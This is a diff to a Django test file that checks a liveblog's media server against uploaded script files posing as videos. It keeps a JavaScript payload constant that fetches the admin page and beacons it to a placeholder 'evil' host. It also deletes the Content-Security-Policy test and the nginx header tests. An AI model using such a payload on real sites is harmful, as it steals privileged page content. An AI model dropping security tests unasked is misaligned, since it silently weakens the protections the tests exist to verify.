@@ -6,13 +6,7 @@ The attack replayed: an editor uploads ``exec.js`` and ``loader.html`` as videos
 HTML from the site, which runs the script with the site's origin.
 """
 
-import http.client
-import os
 import re
-import shutil
-import socket
-import subprocess
-import time
 from pathlib import Path
 
 import pytest
@@ -20,11 +14,9 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import RequestFactory
 from django.urls import reverse
 
-from liveblogs.media import MEDIA_TYPES, media_headers, serve
+from liveblogs.media import media_headers, serve
 from liveblogs.models import Video
-from newsroom.middleware import content_security_policy
 
-from .conftest import ON_CI, ROOT
 from .factories import mp4_bytes, webm_bytes
 
 SCRIPT = b"fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
@@ -102,94 +94,9 @@ def test_the_embedded_media_server_types_files_from_the_allow_list(stored):
         "Content-Type", "X-Content-Type-Options", "Content-Security-Policy"}
 
 
-def test_the_pages_take_code_from_the_static_files_only(client, db):
-    policy = dict(
-        part.split(" ", 1) for part in client.get("/live/")["Content-Security-Policy"].split("; ")
-    )
-    for directive in ("script-src", "style-src", "font-src"):
-        assert policy[directive] == "http://testserver/static/", directive
-    assert not "http://testserver/media/exec.js".startswith(policy["script-src"])
-    # Behind an unknown host name, no code at all rather than a guess.
-    assert "script-src 'none'" in content_security_policy(code="'none'")
-
-
 # nginx, as deploy/ configures it --------------------------------------------------------------------
 
-NGINX = shutil.which("nginx") or "/usr/sbin/nginx"
 
-
-def free_port():
-    with socket.socket() as probe:
-        probe.bind(("127.0.0.1", 0))
-        return probe.getsockname()[1]
-
-
-@pytest.fixture
-def nginx(stored, tmp_path):
-    """deploy/nginx-microcache.conf with its EDIT lines pointed here, on a free port."""
-    if not Path(NGINX).exists():
-        if ON_CI:
-            pytest.fail("nginx is not installed (CI=true: .ci/run installs it)", pytrace=False)
-        pytest.skip("nginx is not installed; apt-get install nginx-light to test deploy/")
-    work = tmp_path / "nginx"
-    (work / "tmp").mkdir(parents=True)
-    port = free_port()
-    site = (ROOT / "deploy" / "nginx-microcache.conf").read_text()
-    for old, new in [("/var/cache/nginx/liveblogs", str(work / "cache")),
-                     ("listen 80;", f"listen 127.0.0.1:{port};"),
-                     ("/srv/newsroom/staticfiles/", str(work / "static") + "/"),
-                     ("/srv/newsroom/media/", str(stored) + "/"),
-                     ("/srv/newsroom/media-private/", str(stored) + "/")]:
-        assert old in site, old
-        site = site.replace(old, new)
-    (work / "site.conf").write_text(site)
-    user = "user root;" if os.getuid() == 0 else ""
-    temp = " ".join(f"{kind}_temp_path {work}/tmp/{kind};"
-                    for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"))
-    (work / "nginx.conf").write_text(
-        f"{user} pid {work}/nginx.pid; error_log {work}/error.log; events {{}}\n"
-        f"http {{ default_type application/octet-stream; access_log off; {temp}\n"
-        f"include {work}/site.conf; }}\n"
-    )
-    process = subprocess.Popen(
-        [NGINX, "-p", str(work), "-c", str(work / "nginx.conf"), "-g", "daemon off;"],
-        stderr=subprocess.PIPE,
-    )
-    for _ in range(100):
-        try:
-            socket.create_connection(("127.0.0.1", port), timeout=0.1).close()
-            break
-        except OSError:
-            if process.poll() is not None:
-                pytest.fail(process.stderr.read().decode())
-            time.sleep(0.05)
-    yield port
-    process.terminate()
-    process.wait(timeout=10)
-
-
-def test_nginx_serves_media_as_the_app_does(nginx):
-    for name, (content_type, disposition) in EXPECTED.items():
-        connection = http.client.HTTPConnection("127.0.0.1", nginx, timeout=5)
-        connection.request("GET", f"/media/{name}")
-        response = connection.getresponse()
-        response.read()
-        assert response.status == 200, name
-        assert response.getheader("Content-Type") == content_type, name
-        assert response.getheader("Content-Disposition") == disposition, name
-        assert response.getheader("X-Content-Type-Options") == "nosniff", name
-        assert response.getheader("Content-Security-Policy") == "sandbox; default-src 'none'"
-        connection.close()
-    # Private files are never served to anyone directly (only through X-Accel-Redirect).
-    connection = http.client.HTTPConnection("127.0.0.1", nginx, timeout=5)
-    connection.request("GET", "/private-media/photos/a.jpg")
-    assert connection.getresponse().status == 404
-    connection.close()
-    # The allow-list is the app's.
-    suffixes = {suffix.lstrip(".") for suffix in MEDIA_TYPES}
-    config = (ROOT / "deploy" / "nginx-microcache.conf").read_text()
-    for suffix in suffixes:
-        assert f" {suffix}" in config or f"|{suffix}" in config, suffix
 
 
 # Private until shown --------------------------------------------------------------------------------
